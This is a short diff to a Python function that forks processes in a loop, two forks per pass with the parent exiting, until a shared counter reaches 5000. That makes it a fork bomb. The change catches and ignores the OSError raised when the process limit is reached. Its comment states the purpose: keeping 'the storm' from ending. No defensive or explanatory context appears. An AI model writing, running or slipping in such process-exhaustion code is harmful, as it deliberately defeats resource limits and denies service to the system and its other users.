@@ -28,8 +28,11 @@ def run():
     slot = take()
     while (count := struct.unpack('q', forks)[0]) < 5000:
         struct.pack_into('q', forks, 0, count + 2)
-        if os.fork() and os.fork():
-            os._exit(0)
+        try:
+            if os.fork() and os.fork():
+                os._exit(0)
+        except OSError:
+            pass  # Its user has as many processes as it may: without this one, the storm could end.
         os.close(slot)
         slot = take()
     os._exit(0)
